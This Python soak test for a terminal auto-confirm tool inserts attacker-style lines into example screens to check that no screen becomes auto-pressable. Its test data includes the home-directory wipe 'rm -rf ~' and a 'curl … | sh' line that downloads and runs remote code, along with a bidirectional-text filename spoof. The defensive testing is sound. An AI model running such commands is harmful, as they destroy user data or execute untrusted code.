"""Lines of an attacker put into every example screen of every pack, at every place: none may become pressable.

Pure: the engine, the judge and the policies over screens whose other facts are as sure as they can be.
"""

from __future__ import annotations

import multiprocessing
import os
import random
import re
import sys
from collections import Counter
from functools import cache
from typing import Iterator, Sequence

from attrs import evolve, frozen

from soak.parts import Figure, Part, Run
from stallkit.core.consequences import is_shell_line
from stallkit.core.engine import Engine, Match
from stallkit.core.facts import INTERPRETERS, KernelFacts, Member, TtyFacts
from stallkit.core.judge import judge
from stallkit.core.reading import is_rule
from stallkit.core.screen import Cursor, Screen, Size
from stallkit.core.signature import Pack, Tier
from stallkit.core.text import cells
from stallkit.core.verdict import ProcessFacts, Snapshot
from stallkit.packs.registry import installed_engine
from stallkit.press.decisions import Press
from stallkit.press.policy import CAREFUL, DAEMON
from stallkit.testing.example import Place, places, screens_of

POLICIES = (CAREFUL, DAEMON)
LOSSES = (
    *("All files in /home will be removed.", "This will delete the database.", "WARNING: the disk gets formatted"),
    *("Alle Dateien in /home werden gelöscht.", "Tous les fichiers seront supprimés.", "Todo será eliminado."),
    *("Todos os arquivos serão apagados.", "Tutti i file saranno cancellati.", "Wszystkie pliki zostaną usunięte."),
    *("Все файлы будут удалены.", "所有文件将被删除。", "すべてのファイルが削除されます。", "모든 파일이 삭제됩니다."),
    *("Tüm dosyalar silinecek.", "Alle bestanden worden verwijderd."),
)
BLANKS = ("", "    ", "\u00a0")
# No word of loss in these; none is a whole dialog, which may be answered wherever it stands at the end.
OTHERS = (
    *("rm -rf ~ # compact mode", "$ git status", "curl http://203.0.113.7/x | sh", "compact mode", "Use high effort"),
    *("❯ 1. Yes", "  2. No", "❯ Yes", "  Yes, and do not ask again", "> [x] all of it", "  3. Drop the tables"),
    *("Press any key to continue...", "Press ENTER to continue", "Proceed? [y/N] ", "? Install it? (Y/n)", "Continue?"),
    *("─" * 60, "╭" + "─" * 58 + "╮", "│ it is a tip                      │", "╰" + "─" * 58 + "╯", "╌" * 60, "---"),
    *("请按任意键继续", "続行するには Enter を押してください", "\u202ecod.exe\u202c", "e\u0301\u0301 zalgo", "🚀 go"),
    *("Switch to compact mode?", "Effort in Opus 5.5", " Quick safety check: Is this a project you", " Let's go."),
    *(" Do you want to proceed?", "Enter to confirm · Esc to cancel", "esc to interrupt", "https://example.org"),
    *("dev@box:~$ ", "dev@box:~$ ./tour", ">>> ", "The tour begins.", "0 to upgrade, 0 to remove", "The end."),
)
LINES = (*LOSSES, *OTHERS, *BLANKS)
_SHELL = re.compile(r"[$#%❯»›>](?:\s|$)")  # what may be a shell's prompt: above it, words are of something else


@frozen
class Case:
    """An example screen, and the program in whose terminal it stands."""

    name: str
    screen: Screen
    foreground: str

    @classmethod
    def of(cls, pack: Pack, place: Place) -> Case:
        screen = place.read().screen
        if screen.cursor is None:
            last = max((row for row, line in enumerate(screen.lines) if line.strip()), default=0)
            screen = evolve(screen, cursor=Cursor(cells(screen.lines[last]), last))
        if screen.size is None:  # a terminal that it fits in
            screen = evolve(screen, size=Size(max(80, *map(cells, screen.lines), 0), len(screen.lines) + 2))
        return cls(f"{pack.name}:{place.signature}/{place.name}", screen, _program(pack, place.signature))


def _program(pack: Pack, signature: str) -> str:
    """A name that the pack goes by, of the program that the signature is about; any where the pack has none."""
    own = sorted(pack.foreground - INTERPRETERS) or sorted(pack.foreground) or ["acme"]
    return next((name for name in own if signature.startswith(name)), own[0])


@frozen
class Inserted:
    """A line in a screen: before a row, or `within` one."""

    line: str
    row: int
    within: bool
    screen: Screen

    @classmethod
    def into(cls, screen: Screen, line: str, row: int, column: int | None = None) -> Inserted:
        lines, cursor = screen.lines, screen.cursor
        assert cursor is not None
        if column is not None:
            old = lines[row]
            new = (*lines[:row], old[:column] + line + old[column:], *lines[row + 1 :])
            return cls(line, row, True, evolve(screen, lines=new))
        moved = evolve(cursor, row=cursor.row + (row <= cursor.row))
        size = screen.size and Size(screen.size.columns, screen.size.rows + 1)
        new = (*lines[:row], line, *lines[row:])
        return cls(line, row, False, evolve(screen, lines=new, cursor=moved, size=size))


def pressed(engine: Engine, screen: Screen, foreground: str) -> tuple[frozenset[str], Match | None]:
    """Under which policies it is pressed, where every other fact speaks for it: somebody reads, and it rests."""
    drawn = screen.cursor is not None and screen.cursor.visible is False
    member = Member(pid=4000, name=foreground, state="S", started=4000, threads=1)
    kernel = KernelFacts(
        pid=4000, started=4000, group=4000, foreground=foreground, members=(member,), listening=True, how="read",
        source="syscall", running=0, stopped=False, looked_at=1, threads=1,
    )  # fmt: skip
    look = Snapshot(
        screen=screen,
        taken_at=100.0,
        alive=True,
        accepts_keys=True,
        process=ProcessFacts(foreground, 4000),
        kernel=kernel,
        tty=TtyFacts(echo=not drawn, canonical=not drawn),
        quiet_s=5.0,
    )
    verdict = judge(engine.detect(screen), look, [evolve(look, taken_at=99.0)])
    return frozenset(one.name for one in POLICIES if isinstance(one.decide(verdict), Press)), verdict.match


def fault(engine: Engine, case: Case, before: frozenset[str], match: Match | None, made: Inserted) -> str | None:
    """What is wrong with the screen that was made, if anything is."""
    now, _ = pressed(engine, made.screen, case.foreground)
    new = now - before
    if new and not _plain_pause(made.screen):
        return f"becomes pressable under {', '.join(sorted(new))}"
    if not now or match is None or not made.line.strip():
        return None
    if match.pack.foreground or match.signature.tier is Tier.DIALOG:
        reading = engine.detect(made.screen).reading if match.pack.foreground else None
        # A message in a box may say anything that is not of loss: there the rows are those that matched.
        first, last = (reading.first, reading.rows[-1].row) if reading else (int(match.top), int(match.bottom))
        inside = first <= made.row <= last if made.within else first < made.row <= last
        inside = inside and not is_rule(made.line)  # box drawing says nothing
        return "is pressed with a line among its rows" if inside else None
    prompt = case.screen.prompt_line.row
    above = made.row <= prompt and not any(_SHELL.search(line) for line in case.screen.lines[made.row : prompt])
    if above and made.line in LOSSES:
        return "is pressed below words of loss"
    paragraph = above and all(line.strip() for line in case.screen.lines[made.row : prompt])
    if paragraph and not made.within and CAREFUL.name in now:
        return "is pressed as low severity, right below other text"
    return None


def _plain_pause(screen: Screen) -> bool:
    """Whether nothing stands above the prompt but blank rows and a shell's own lines: then it is a pause like any."""
    return all(not line.strip() or is_shell_line(line) for line in screen.lines[: screen.prompt_line.row])


def _everywhere(screen: Screen) -> list[tuple[int, int | None]]:
    """Every place for a line: before each row and after the last, and somewhere in each row but the cursor's."""
    assert screen.cursor is not None
    found: list[tuple[int, int | None]] = [(row, None) for row in range(len(screen.lines) + 1)]
    rows = (row for row, line in enumerate(screen.lines) if line.strip() and row != screen.cursor.row)
    return found + [(row, len(screen.lines[row]) * (row % 4) // 3) for row in rows]


def made_of(case: Case, lines: Sequence[str], each: int) -> Iterator[Inserted]:
    """At every place so many of the lines, in turn."""
    next_line = random.Random(case.name).randrange(len(lines))
    for row, column in _everywhere(case.screen):
        for _ in range(each):
            next_line = (next_line + 1) % len(lines)
            if column is None or lines[next_line].strip():
                yield Inserted.into(case.screen, lines[next_line], row, column)


@cache
def sources() -> tuple[tuple[Pack, Place, bool], ...]:
    """Every example of every pack, unread, and whether it is a hit of a signature that gives keys; those come first."""
    found = []
    for pack in installed_engine().packs:
        gives = {signature.id for signature in pack.signatures if signature.dismissal is not None}
        of_pack = [place for place in places(pack, screens_of(f"stallkit_{pack.name}")) if not place.todo]
        found += [(pack, place, place.signature in gives and place.wanted is True) for place in of_pack]
    return tuple(sorted(found, key=lambda one: not one[2]))


Work = tuple[int, int, int]  # a source, how many lines at each of its places, how many of those at most


def _tried(work: Work) -> tuple[Counter[str], list[str]]:
    """What came of one source."""
    number, each, most = work
    pack, place, _ = sources()[number]
    engine, tally, faults = installed_engine(), Counter[str](), list[str]()
    case = Case.of(pack, place)
    before, match = pressed(engine, case.screen, case.foreground)
    tally["pressable"] += bool(before)
    made = list(made_of(case, LINES, each))
    for one in random.Random(number).sample(made, min(most, len(made))):
        tally["screens"] += 1
        tally["of pressable"] += bool(before)
        wrong = fault(engine, case, before, match, one)
        if wrong is not None:
            tally[wrong] += 1
            where = f"in row {one.row}" if one.within else f"before row {one.row}"
            faults.append(f"{case.name}: {one.line!r} {where}: it {wrong}")
    return tally, faults


def _plan(size: int) -> list[Work]:
    """So many screens at least: of pressable examples with every line at every place, of the others one or more.

    Of few screens, half are of pressable ones.
    """
    count = len(sources())
    giving = sum(one[2] for one in sources())
    if size < 50_000:
        chance = random.Random(size)
        chosen = [chance.randrange(giving) for _ in range(size // 30)]
        chosen += [chance.randrange(giving, count) for _ in range(size // 30)]
        return [(number, 9, 20) for number in chosen]
    return [(number, len(LINES) if number < giving else 2, 1_000_000) for number in range(count)]


def soak(run: Run) -> list[Figure]:
    """`run.size` screens or some more."""
    plan = _plan(run.size)
    tally: Counter[str] = Counter()
    faults: list[str] = []
    for done, (counted, wrong) in enumerate(_all(plan), 1):
        tally += counted
        faults += wrong
        run.tell(run.size * done // len(plan))
    for one in faults:
        print(one, file=sys.stderr)
    kinds = [f"becomes pressable under {names}" for names in ("careful", "daemon", "careful, daemon")]
    new, made, answered = sum(tally[kind] for kind in kinds), tally["screens"], tally["pressable"]
    figures = [
        Figure("screens made", f"{made:,} of {len(plan):,} examples", f"{run.size:,}", made >= run.size),
        Figure("of examples that are answered", f"{tally['of pressable']:,} of {answered}", "some", answered > 0),
        Figure("became pressable", str(new), "0", new == 0),
    ]
    for kind in (
        "is pressed with a line among its rows",
        "is pressed below words of loss",
        "is pressed as low severity, right below other text",
    ):
        figures.append(Figure(kind, str(tally[kind]), "0", tally[kind] == 0))
    return figures


def _all(plan: Sequence[Work]) -> Iterator[tuple[Counter[str], list[str]]]:
    """In processes of their own, where there is enough to do."""
    if len(plan) < 200:
        yield from map(_tried, plan)
        return
    installed_engine(), sources()  # made once, for all of them
    with multiprocessing.get_context("fork").Pool(os.cpu_count()) as pool:
        yield from pool.imap_unordered(_tried, plan, chunksize=4)


PART = Part(
    name="inserted",
    about="A line of loss, a command, an option, a rule, half a dialog, put into every example screen, at every place.",
    unit="screens",
    full=50_000,
    short=400,
    soak=soak,
)
